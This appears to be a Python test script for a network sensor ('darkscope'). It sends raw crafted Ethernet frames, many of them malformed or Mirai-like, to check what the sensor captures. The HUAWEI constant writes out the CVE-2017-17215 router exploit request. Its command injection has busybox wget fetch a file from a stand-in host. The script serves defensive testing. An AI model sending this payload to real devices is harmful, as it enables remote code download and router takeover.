#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""capture_send.py - send the frames of darkscope's capture tests, write
what the sensor must count (JSON, for check_series.py) and the frames
themselves (one hex line each, in order, for check_capture.py).

usage: capture_send.py -i IFACE --dst-mac MAC --mix selection|big [--count N]
                       [--seed S] --expect OUT.json --frames OUT.hex

selection: every case the selection rules tell apart (payload or not by the
IP lengths, Mirai SYNs, SYNs with options, data segments, ICMP with data,
VLAN tags, IP options, first fragments), keys repeated within and across
rounds, and frames never captured (ARP, IPv6, malformed); --count rounds.
big: --count UDP frames of 1400 bytes with random (incompressible) payload.
"""
import argparse
import random
import socket
import struct

from frames import (ACK, ETH_P_8021AD, ETH_P_8021Q, ETH_P_ARP, ETH_P_IP, ETH_P_IPV6, PSH,
                    RST, SYN, Expectation, ether, icmp, ip2int, ipv4, tx_dropped, udp, write_sent)
from pcap_expect import classify

SSDP = (b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n"
        b"MX: 1\r\nST: ssdp:all\r\n\r\n")
# CVE-2017-17215 (Huawei HG532, 37215/TCP), as Mirai variants send it.
HUAWEI = (b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 430\r\nConnection: "
          b"keep-alive\r\nAccept: */*\r\nAuthorization: Digest username=\"dslf-config\", "
          b"realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", "
          b"uri=\"/ctrlt/DeviceUpgrade_1\"\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope>"
          b"<s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.66 -l /tmp/x "
          b"-r /x)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>\r\n\r\n")
# MSS, SACK permitted, timestamps, NOP, window scale: 20 bytes (doff 10).
SYN_OPTIONS = bytes.fromhex("020405b4" "0402080a" "0001e24000000000" "01030307")


def tcp(sport, dport, seq, flags, payload=b"", options=b"", doff=None):
    """TCP with options; doff may lie about the header length."""
    if doff is None:
        doff = 5 + len(options) // 4
    return struct.pack("!HHIIBBHHH", sport, dport, seq, 0, doff << 4, flags, 1024, 0, 0) + \
        options + payload


def pad(frame):
    """Ethernet padding to 60 bytes, as a NIC adds it."""
    return frame + b"\0" * max(0, 60 - len(frame))


def selection_round(eth, dst, r, rng):
    """One round: hosts change with r, keys (proto, dport, /24) repeat."""
    net_a, net_b, net_c = ip2int("203.0.113.0"), ip2int("192.0.2.0"), ip2int("198.18.5.0")
    ip = lambda src, proto, l4, **kw: eth(ETH_P_IP, ipv4(src, dst, proto, l4, **kw))
    h = 1 + 10 * r
    port = 40000 + r
    bad_tcp = tcp(1234, 23, 1, SYN)
    f = [
        # UDP: payload by the IP lengths, never by Ethernet padding or UDP's own length
        ip(net_a | h, 17, udp(port, 1900, SSDP)),
        pad(ip(net_b | h, 17, udp(port, 53))),
        pad(ip(net_a | h + 1, 17, udp(port, 123))),
        pad(ip(net_c | h, 17, udp(port, 5060, b"x"))),
        pad(ip(net_c | h + 1, 17, struct.pack("!HHHH", port, 161, 100, 0))),
        # Mirai SYNs (seq == destination), to a key plain SYNs share; one unpadded
        pad(ip(net_a | h, 6, tcp(port, 23, dst, SYN))),
        pad(ip(net_a | h + 2, 6, tcp(port, 23, dst, SYN))),
        ip(net_a | h + 3, 6, tcp(port, 23, dst, SYN)),
        pad(ip(net_a | h + 4, 6, tcp(port, 23, dst ^ 1, SYN))),
        pad(ip(net_c | h, 6, tcp(port, 2323, rng.randrange(1 << 32), SYN))),
        # SYNs with options, no data; one of them Mirai
        ip(net_b | h, 6, tcp(port, 8080, 77, SYN, options=SYN_OPTIONS)),
        pad(ip(net_b | h + 1, 6, tcp(port, 23, dst, SYN, options=SYN_OPTIONS[:4]))),
        # Data: the Huawei exploit, data after options, a SYN with data
        ip(net_c | h, 6, tcp(port, 37215, 5, PSH | ACK, HUAWEI)),
        ip(net_b | h, 6, tcp(port, 80, 6, PSH | ACK, b"GET / HTTP/1.0\r\n\r\n",
                             options=SYN_OPTIONS[:12])),
        pad(ip(net_b | h + 2, 6, tcp(port, 443, 7, SYN, b"\x16\x03\x01"))),
        # A header claiming more than the segment holds, or less than 20 bytes
        ip(net_c | h, 6, tcp(port, 81, 8, PSH | ACK, b"0123456789", doff=15)),
        pad(ip(net_c | h + 1, 6, tcp(port, 82, 9, ACK, doff=2))),
        pad(ip(net_c | h + 2, 6, tcp(port, 83, 9, ACK, b"abcd", doff=2))),
        pad(ip(net_a | h, 6, tcp(port, 23, 10, RST | ACK))),
        # ICMP never carries payload for the selection
        ip(net_b | h, 1, icmp(8, 0, bytes(range(56)))),
        pad(ip(net_b | h + 1, 1, icmp(8))),
        # VLAN tags, IP options, a first fragment
        eth(ETH_P_IP, ipv4(net_a | h + 5, dst, 17, udp(port, 1900, SSDP)), ((ETH_P_8021Q, 10),)),
        pad(eth(ETH_P_IP, ipv4(net_a | h + 6, dst, 6, tcp(port, 23, dst, SYN)),
                ((ETH_P_8021AD, 100), (ETH_P_8021Q, 20)))),
        pad(ip(net_c | h, 6, tcp(port, 22, 11, SYN), options=b"\x01\x01\x01\x00")),
        ip(net_c | h + 3, 17, udp(port, 1900, SSDP[:40]), options=b"\x01\x01\x01\x00"),
        ip(net_b | h + 3, 17, udp(port, 500, bytes(40)), frag=0x2000),
        # Never captured: not IPv4 TCP/UDP/ICMP, or malformed
        pad(eth(ETH_P_ARP, bytes(28))),
        eth(ETH_P_IPV6, bytes(40) + udp(1, 1900, SSDP)),
        ip(net_a | h, 6, bad_tcp + b"data", frag=5),
        ip(net_a | h, 47, bytes(8)),
        pad(eth(ETH_P_IP, bytes([0x44]) + ipv4(net_a | h, dst, 6, bad_tcp)[1:])),
        pad(eth(ETH_P_IP, bytes([0x65]) + ipv4(net_a | h, dst, 6, bad_tcp)[1:])),
        pad(ip(net_a | h, 6, bad_tcp[:12])),
        eth(ETH_P_IP, ipv4(net_a | h, dst, 6, bad_tcp)[:16]),
        eth(ETH_P_8021Q, b"\x00"),  # a VLAN tag cut short: unpadded
    ]
    # bad_ip_len: the total length says more than the frame holds
    p = bytearray(ipv4(net_a | h, dst, 6, bad_tcp))
    p[2:4] = struct.pack("!H", 1400)
    f.append(eth(ETH_P_IP, bytes(p)))
    rng.shuffle(f)
    return f


def big_frames(eth, dst, count, rng):
    """UDP frames of 1400 bytes whose payload does not compress."""
    out = []
    for _ in range(count):
        src = ip2int("192.0.2.0") | rng.randrange(256)
        payload = rng.randbytes(1400 - 14 - 20 - 8)
        out.append(eth(ETH_P_IP, ipv4(src, dst, 17, udp(rng.randrange(1024, 65536), 7000,
                                                         payload))))
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-i", "--iface", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst-ip", default="198.51.100.7")
    ap.add_argument("--mix", required=True, choices=("selection", "big"))
    ap.add_argument("--count", type=int, default=4, help="rounds (selection) or frames (big)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--expect", required=True)
    ap.add_argument("--frames", required=True)
    args = ap.parse_args()

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    src_mac = sock.getsockname()[4]
    eth = lambda etype, payload, vlans=(): ether(dst_mac, src_mac, etype, payload, vlans)
    dst = ip2int(args.dst_ip)
    rng = random.Random(args.seed)
    if args.mix == "selection":
        frames = [fr for r in range(args.count) for fr in selection_round(eth, dst, r, rng)]
    else:
        frames = big_frames(eth, dst, args.count, rng)

    exp = Expectation()
    dropped_before = tx_dropped(args.iface)
    for frame in frames:
        classify(frame, exp)
        sock.send(frame)
    write_sent(args.expect, exp, frames, tx_dropped(args.iface) - dropped_before, args.frames)


if __name__ == "__main__":
    main()
